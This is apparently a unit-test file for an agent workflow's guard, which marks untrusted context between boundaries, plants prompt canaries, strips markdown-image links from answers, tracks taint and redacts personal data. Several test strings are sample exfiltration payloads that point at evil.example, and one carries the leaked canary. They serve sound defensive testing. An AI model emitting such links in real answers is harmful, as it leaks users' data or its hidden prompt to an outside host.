"""The guard of a run: marked prompts, checked answers, taint, and values only in the report that goes back."""

from __future__ import annotations

from datetime import UTC, datetime

import orjson
import pytest

from omninode.context.item import ContextItem
from omninode.core.ids import uuid7
from omninode.validation.policy import ValidationPolicy
from omninode.validation.report import Action
from omninode.validation.validator import InputValidator
from omninode.validation.vault import MemoryVault
from omninode.workflow.agent import AgentCatalog
from omninode.workflow.guard import Marks, RunGuard
from omninode.workflow.prompts import planner_request, worker_request
from omninode.workflow.report import RunReport
from omninode.workflow.task import Task, TaskResult

pytestmark = pytest.mark.unit

MARKS = Marks(secret=b"k" * 32)
TASK = Task(id="a", agent="coder", description="write", input={"to": ["x"]})
ITEM = ContextItem(id="i", source="s", context_type="t", title="T", content="two\nlines", trust="remote")


def guard(*, vault: bool = True) -> RunGuard:
    policy = ValidationPolicy(personal_data=Action.REDACT)
    return RunGuard(InputValidator(policy), vault=MemoryVault(bytes(32)) if vault else None)


def worker(marks: Marks = MARKS, *, prompt: str = "p", results: dict[str, TaskResult] | None = None):
    agent = AgentCatalog.default()["coder"]
    return worker_request(TASK, agent=agent, prompt=prompt, context=[ITEM], results=results or {}, marks=marks)


def _body(prepared) -> dict[str, object]:
    return orjson.loads(str(prepared.request.messages[1].content).partition("INPUT:\n")[2])


def _boundary(prepared) -> str:
    return str(prepared.request.messages[0].content).partition("[data ")[2][:12]


def test_context_and_results_stand_between_boundaries_the_system_message_names() -> None:
    earlier = TaskResult(task=TASK, status="ok", output="done")
    prepared = worker(results={"z": earlier})
    boundary = _boundary(prepared)
    body = _body(prepared)
    assert body["context"] == [{"id": "i", "title": "T", "content": f"[data {boundary}]\ntwo\nlines\n[end {boundary}]"}]
    assert body["results"] == [{"task_id": "z", "output": f"[data {boundary}]\ndone\n[end {boundary}]"}]
    system = str(prepared.request.messages[0].content)
    assert prepared.canary in system
    assert system.endswith("OMNINODE-ROLE: worker")


def test_same_request_is_the_same_and_another_has_another_boundary_and_canary() -> None:
    first, again, other = worker(), worker(), worker(prompt="q")
    assert first == again
    assert len({first.canary, other.canary, _boundary(first), _boundary(other)}) == 4
    foreign = worker(Marks(secret=b"l" * 32))
    assert foreign.canary != first.canary


def test_planner_is_marked_too_and_marking_can_be_switched_off() -> None:
    agents = AgentCatalog.default().values()
    prepared = planner_request("p", agents=agents, context=[ITEM], deficiencies=(), marks=Marks(mode="off"))
    assert _body(prepared)["context"] == [{"title": "T", "content": "two\nlines"}]
    marked = planner_request("p", agents=agents, context=[ITEM], deficiencies=(), marks=MARKS)
    assert "[data " in str(_body(marked)["context"])


async def test_answer_loses_its_addresses_and_a_leak_is_a_finding() -> None:
    one = guard()
    prepared = worker()
    text = f"![x](https://evil.example/?d=1) {prepared.canary}"
    shown = await one.checked(text, prepared=prepared, path="output[a]")
    assert shown == "![x](#removed) [REDACTED:CANARY]"
    assert [finding.code for finding in one.findings] == ["OUTPUT.CANARY", "OUTPUT.EXFILTRATION"]
    assert {finding.path for finding in one.findings} == {"output[a]"}


async def test_long_answer_is_checked_the_same() -> None:
    one = guard()
    shown = await one.checked("x " * 5_000 + "![x](https://evil.example/?d=1)", prepared=worker(), path="o")
    assert shown.endswith("![x](#removed)")


async def test_plan_is_looked_through_and_not_changed() -> None:
    one = guard()
    prepared = worker()
    text = '{"tasks": "https://evil.example/?d=' + prepared.canary + '"}'
    assert await one.checked(text, prepared=prepared, path="plan", is_plan=True) == text
    assert [finding.code for finding in one.findings] == ["OUTPUT.CANARY"]
    planned = Task(id="a", agent="coder", description="see ![x](https://evil.example/?d=1)")
    assert one.cleaned_task(planned).description == "see ![x](#removed)"
    assert one.cleaned_task(TASK) is TASK


async def test_hosts_of_the_prompt_may_be_sent_data() -> None:
    one = guard()
    one.know_hosts_of("draw https://charts.example/x")
    text = "![x](https://charts.example/?d=1)"
    assert await one.checked(text, prepared=worker(), path="o") == text


def test_taint_follows_items_the_plan_and_results() -> None:
    one = guard()
    one.flagged = frozenset({"bad", "worse"})
    assert one.taint(["good"], {}) == ()
    assert one.taint(["bad", "good"], {}) == ("bad",)
    tainted = TaskResult(task=TASK, status="ok", tainted_by=("worse",))
    assert one.taint(["good"], {"z": tainted}) == ("worse",)
    one.plan_taint = frozenset({"bad"})
    assert one.taint([], {}) == ("bad",)


def _report(told: str) -> RunReport:
    task = Task(id="a", agent="coder", description=told, input={"to": [told]})
    return RunReport(
        run_id=uuid7(),
        status="done",
        prompt=told,
        started_at=datetime(2026, 1, 1, tzinfo=UTC),
        duration_ms=1.0,
        is_simulated=False,
        tasks=[TaskResult(task=task, status="ok", output=told.lower(), error=told)],
        result=told,
    )


def test_report_gets_its_values_back_until_the_guard_is_closed() -> None:
    one = guard()
    told = one.told("mail a@b.co now")
    assert told == "mail <<EMAIL_1>> now"
    report = _report(told)
    back = one.restored(report).as_json()
    assert "EMAIL" not in str(back).upper()
    assert back["tasks"][0]["input"] == {"to": ["mail a@b.co now"]}
    one.close()
    assert one.restored(report).prompt == told


def test_without_a_vault_nothing_comes_back() -> None:
    one = guard(vault=False)
    report = _report(one.told(b"mail a@b.co now"))
    assert one.restored(report) is report
    assert "a@b.co" not in str(report.as_json())


def test_what_is_no_text_is_told_as_such() -> None:
    assert guard().told(b"a\xff\0b") == "a\ufffd\ufffdb"
    assert guard().told("a\ud800b") == "a?b"
